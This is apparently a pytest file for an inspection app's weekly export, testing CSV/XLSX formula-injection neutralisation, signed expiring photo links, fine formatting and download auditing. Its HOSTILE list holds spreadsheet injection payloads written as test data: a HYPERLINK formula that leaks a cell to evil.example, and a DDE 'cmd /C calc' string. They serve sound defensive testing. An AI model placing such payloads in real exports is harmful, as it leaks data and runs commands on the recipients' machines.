"""What the hardening of issue 13 asks of the export, read back from the files:

* formula-like names are text: neutralised with ``'`` in CSV, string cells in XLSX (point 18);
* photo links open for whoever holds the file, for a limited time: signed, expiring links to the
  watermarked display image, one clickable ``HYPERLINK`` cell per photo; the inspector's note in its
  own column; fines as whole yuan with a thousands format (point 21);
* every download is audited, by API and by the scheduled command (points 16 and 21).
"""
from __future__ import annotations

import csv
import io
import re
import uuid
import zipfile
from datetime import timedelta

import openpyxl
import pytest
from itsdangerous import TimestampSigner
from sqlalchemy import select

from inspect_app.core.models import AuditEvent
from inspect_app.core.timeutil import utcnow
from inspect_app.exports.links import SALT, LinkSigner
from inspect_app.exports.queries import export_context
from inspect_app.extensions import db
from tests import factories
from tests.evidence import images
from tests.exports.test_weekly_export import WEEK, link_target, local, photo_cells, week  # noqa: F401
from tests.inspections.helpers import WINTER_MORNING, plain_key, site_form, submission
from tests.scorecards.builders import add_case, add_inspection, add_violation, distinct_items

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此")', "@SUM(1+1)*cmd|' /C calc'!A0", "+86 139 0471 0000",
           "-2+3", "\tTAB 开头的工地", "\rCR 开头的单位"]
HARMLESS = ["新华工地", "a=b 工地", "（=）括号"]


def _download(client, headers, fmt="xlsx", week=WEEK):
    response = client.get("/api/exports/weekly", query_string={"week": week, "format": fmt}, headers=headers)
    assert response.status_code == 200, response.get_data()[:300]
    return response


# ---- point 18: formula injection ------------------------------------------------------------------

@pytest.fixture
def hostile_week(checklists):
    """One violation per hostile (and harmless) name: the name as site, its reverse as contractor."""
    inspector = factories.create_user("inspector", display_name="=张巡查")
    items = iter(distinct_items(len(HOSTILE) + len(HARMLESS)))
    for number, name in enumerate(HOSTILE + HARMLESS):
        site = factories.create_site(name=name, contractor=f"@{name}" if name in HOSTILE else name)
        when = local(2026, 11, 24, 9, number)
        add_violation(add_inspection(site, inspector, when, 60, "fail"), next(items), when)
    db.session.commit()


def test_csv_fields_that_start_like_a_formula_are_prefixed_with_a_quote(client, auth, hostile_week):
    data = _download(client, auth.as_role("admin"), fmt="csv").get_data().decode("utf-8-sig")
    rows = {row[2]: row for row in list(csv.reader(io.StringIO(data)))[1:]}
    for name in HOSTILE:
        row = rows["'" + name]  # the site cell, neutralised
        assert row[3] == "'@" + name and row[10] == "'=张巡查"  # contractor and inspector too
    for name in HARMLESS:
        assert rows[name][3] == name  # text that does not start like a formula is left alone
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_xlsx_writes_formula_like_names_as_strings_and_only_photo_links_as_formulas(client, auth, hostile_week):
    data = _download(client, auth.as_role("admin")).get_data()
    book = openpyxl.load_workbook(io.BytesIO(data))
    sites = {row[2].value: row for row in book["违规明细"].iter_rows(min_row=2)}
    for name in HOSTILE:
        name = name.replace("\r", "_x000D_")  # Excel's escape of a control character, which openpyxl keeps
        cell = sites[name][2]
        assert (cell.value, cell.data_type) == (name, "s")  # the exact text, as a string cell
        assert sites[name][3].data_type == "s" and sites[name][10].value == "=张巡查"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    formulas = [f for xml in sheets for f in re.findall(r"<f>(.*?)</f>", xml)]
    assert all(f.startswith("HYPERLINK(&quot;") or f.startswith('HYPERLINK("') for f in formulas), formulas


# ---- point 21: photo links, note, money ----------------------------------------------------------

@pytest.fixture
def photographed(client, auth, checklists):
    """A real submission: one failed item with a note and two uploaded photos, in week 2026-W48."""
    site = factories.create_site("xinhuaxilu", phase="earthwork", name="带照片工地")
    inspector = auth.headers(factories.create_user("inspector", units=("xinhuaxilu",)))
    form = site_form(client, inspector)
    key = plain_key(form, site)
    photo_ids = [str(uuid.uuid4()) for _ in range(2)]
    body = submission(form, site, outcomes={key: "fail"}, photos={key: photo_ids})
    next(i for i in body["items"] if i["key"] == key)["note"] = "  围挡破损约10米，未见整改  "
    assert client.post("/api/inspections", json=body, headers=inspector).status_code == 201
    taken = (WINTER_MORNING + timedelta(minutes=5)).replace(tzinfo=None)
    for n, photo_id in enumerate(photo_ids):
        data = images.jpeg((800 + n * 16, 600), taken_at=taken, offset="+08:00", lat=site.lat, lon=site.lon)
        response = client.put(f"/api/inspections/{body['uuid']}/photos/{photo_id}", data=data,
                              headers={**inspector, "Content-Type": "application/octet-stream"})
        assert response.status_code == 201, response.get_json()
    return {"uuid": body["uuid"], "photos": photo_ids, "headers": inspector}


def _violation_row(client, headers):
    sheet = openpyxl.load_workbook(io.BytesIO(_download(client, headers).get_data()))["违规明细"]
    header, row = [c.value for c in sheet[1]], [c.value for c in sheet[2]]
    return header, row, sheet


def test_each_photo_is_its_own_clickable_link_that_opens_without_logging_in(client, app, auth, photographed):
    supervisor = auth.as_role("supervisor")
    header, row, sheet = _violation_row(client, supervisor)
    assert header[11:] == ["巡查员说明", "照片1", "照片2"]
    assert row[11] == "围挡破损约10米，未见整改"  # the inspector's note, in its own column
    assert [value.split('","')[1] for value in row[12:]] == ['照片1")', '照片2")']
    assert sheet["M2"].data_type == "f" and sheet["M2"].font.u == "single"  # a clickable, underlined link
    targets = photo_cells(row)
    assert [photo for *_, photo in targets] == photographed["photos"]
    anonymous = app.test_client()  # whoever holds the file: no token, no cookie
    for value, photo in zip(row[12:], photographed["photos"]):
        url = value.split('"')[1]
        assert url.startswith("http://localhost/api/exports/photo-links/")
        opened = anonymous.get(url.removeprefix("http://localhost"))
        assert opened.status_code == 200 and opened.mimetype == "image/jpeg"
        display = client.get(f"/api/photos/{photo}/display", headers=supervisor).get_data()
        original = client.get(f"/api/photos/{photo}/original", headers=supervisor).get_data()
        assert opened.get_data() == display and opened.get_data() != original  # watermarked, never the original
        assert "no-referrer" in opened.headers["Referrer-Policy"]


def _link_path(url: str) -> str:
    return "/api/exports/photo-links/" + url.rsplit("/", 1)[1]


def test_tampered_foreign_and_expired_links_are_refused_with_a_clear_code(client, app, auth, photographed,
                                                                         monkeypatch):
    _, row, _ = _violation_row(client, auth.as_role("admin"))
    url = row[12].split('"')[1]
    token = url.rsplit("/", 1)[1]
    payload, timestamp, signature = token.rsplit(".", 2)
    inspection_id = int(payload.split("_")[0])
    other_photo = photographed["photos"][1]
    forged = [
        f"{payload}.{timestamp}.{signature[:-2]}{'AA' if signature[-2:] != 'AA' else 'BB'}",  # signature edited
        f"{inspection_id}_{other_photo}.{timestamp}.{signature}",  # another photo, same signature
        f"{payload}.{timestamp}",  # no signature
        "x" * 300, "..", "%00",
        TimestampSigner("another-secret-key", salt=SALT).sign(f"{inspection_id}_{other_photo}").decode(),
        TimestampSigner("test-secret", salt="another-purpose").sign(f"{inspection_id}_{other_photo}").decode(),
    ]
    for bad in forged:
        response = client.get(f"/api/exports/photo-links/{bad}")
        assert (response.status_code, response.get_json()["code"]) == (404, "export_link_invalid"), bad
        assert "导出" in response.get_json()["message"]

    # a correctly signed link naming a photo of another inspection shows nothing
    foreign = LinkSigner("test-secret", int(utcnow().timestamp()), "").url(inspection_id + 1000, other_photo)
    response = client.get(foreign)
    assert (response.status_code, response.get_json()["code"]) == (404, "export_link_photo_missing")

    # an export made 31 days ago: its links have expired (EXPORT_LINK_DAYS is 30) …
    old = export_context(None, WEEK, now=utcnow() - timedelta(days=31))
    stale = old.links.url(inspection_id, other_photo)
    response = client.get(stale, headers={"Accept-Language": "en"})
    assert (response.status_code, response.get_json()["code"]) == (410, "export_link_expired")
    assert "30 days" in response.get_json()["message"]
    # … and the lifetime is configuration, read when the link is opened
    monkeypatch.setitem(app.config, "EXPORT_LINK_DAYS", 60)
    assert client.get(stale).status_code == 200
    monkeypatch.setitem(app.config, "EXPORT_LINK_DAYS", 30)
    recent = export_context(None, WEEK, now=utcnow() - timedelta(days=29)).links.url(inspection_id, other_photo)
    assert client.get(recent).status_code == 200


def test_links_are_itsdangerous_tokens_keyed_by_the_secret_key():
    signer = LinkSigner("test-secret", 1_764_000_000, "https://inspect.example.cn/")
    photo = "0b6c1c52-4a0e-4d3c-9a55-1d7f2f0c6e11"

    class Dated(TimestampSigner):
        def get_timestamp(self):
            return 1_764_000_000

    assert signer.token(42, photo) == Dated("test-secret", salt=SALT).sign(f"42_{photo}").decode()
    assert signer.url(42, photo) == f"https://inspect.example.cn/api/exports/photo-links/{signer.token(42, photo)}"
    assert signer.token(42, photo) != LinkSigner("other-secret", 1_764_000_000, "").token(42, photo)
    assert len(signer.url(2 ** 40, photo)) < 255  # Excel's HYPERLINK() limit, with room for a longer host


def test_links_point_at_public_base_url_when_configured(client, app, auth, photographed, monkeypatch):
    monkeypatch.setitem(app.config, "PUBLIC_BASE_URL", "https://inspect.huimin.example.cn")
    _, row, _ = _violation_row(client, auth.as_role("admin"))
    assert {prefix for prefix, *_ in photo_cells(row)} == {"https://inspect.huimin.example.cn/api/exports/photo-links"}


def test_fines_are_whole_yuan_with_a_thousands_format(client, auth, week):  # noqa: F811
    sheet = openpyxl.load_workbook(io.BytesIO(_download(client, auth.as_role("admin")).get_data()))["处罚移送"]
    fine_min, fine_max = sheet["J2"], sheet["K2"]
    assert fine_min.number_format == fine_max.number_format == "#,##0"
    assert type(fine_min.value) is int and type(fine_max.value) is int and fine_min.value >= 1000


def test_a_truck_violation_has_no_deadline_in_geojson_either(client, auth, checklists):
    from tests.roadside.helpers import truck_check, truck_form

    inspector = auth.headers(factories.create_user("inspector", units=("xinhuaxilu",)))
    body = truck_check(truck_form(client, inspector), plate="蒙B54321", started_at=local(2026, 11, 24, 10, 0))
    assert client.post("/api/roadside-checks", json=body, headers=inspector).status_code == 201
    features = _download(client, auth.as_role("admin"), fmt="geojson").get_json()["features"]
    [unfiled] = [f["properties"] for f in features if f["properties"]["plate"] == "蒙B54321"]
    assert unfiled["deadline"] is None and unfiled["status"] == "open"  # not "overdue" by the clock
    summary = openpyxl.load_workbook(io.BytesIO(_download(client, auth.as_role("admin")).get_data()))["分街道汇总"]
    totals = [c.value for c in summary[summary.max_row]]
    assert totals[0] == "合计" and totals[4] >= 1 and totals[5] == 0  # counted as new, not as overdue


# ---- audit: who took which week in which format ---------------------------------------------------

def _downloads() -> list[AuditEvent]:
    return list(db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export.download")
                                   .order_by(AuditEvent.id)))


def test_every_api_download_is_audited_with_who_which_week_and_format(client, auth, week):  # noqa: F811
    supervisor = factories.create_user("supervisor", units=("xinhuaxilu",))
    headers = auth.headers(supervisor)
    for fmt in ("xlsx", "csv", "geojson"):
        _download(client, headers, fmt=fmt)
    db.session.expire_all()
    events = _downloads()
    assert [(e.actor_id, e.object_id, e.after["format"], e.after["via"]) for e in events] == [
        (supervisor.id, WEEK, fmt, "api") for fmt in ("xlsx", "csv", "geojson")]
    assert events[0].after["units"] == ["xinhuaxilu"] and events[0].after["week"] == WEEK


def test_a_refused_download_is_not_audited(client, auth):
    response = client.get("/api/exports/weekly?week=2026-W60", headers=auth.as_role("admin"))
    assert response.status_code == 422
    assert _downloads() == []


def test_the_weekly_command_needs_a_public_address_and_audits_each_file(runner, app, week, tmp_path,  # noqa: F811
                                                                      monkeypatch):
    refused = runner.invoke(args=["exports", "weekly", "--week", WEEK, "--out", str(tmp_path / "none")])
    assert refused.exit_code == 2 and "PUBLIC_BASE_URL" in refused.output and "--base-url" in refused.output
    assert not (tmp_path / "none").exists() and _downloads() == []

    monkeypatch.setitem(app.config, "PUBLIC_BASE_URL", "https://inspect.example.cn")
    result = runner.invoke(args=["exports", "weekly", "--week", WEEK, "--out", str(tmp_path / "out"),
                                 "--format", "xlsx", "--format", "csv"])
    assert result.exit_code == 0, result.output
    with (tmp_path / "out" / f"weekly-violations-{WEEK}.csv").open(encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    assert link_target(rows[1][12])[0] == "https://inspect.example.cn/api/exports/photo-links"
    db.session.expire_all()
    assert [(e.actor_id, e.after["format"], e.after["via"], e.after["units"]) for e in _downloads()] == [
        (None, "xlsx", "cli", "all"), (None, "csv", "cli", "all")]
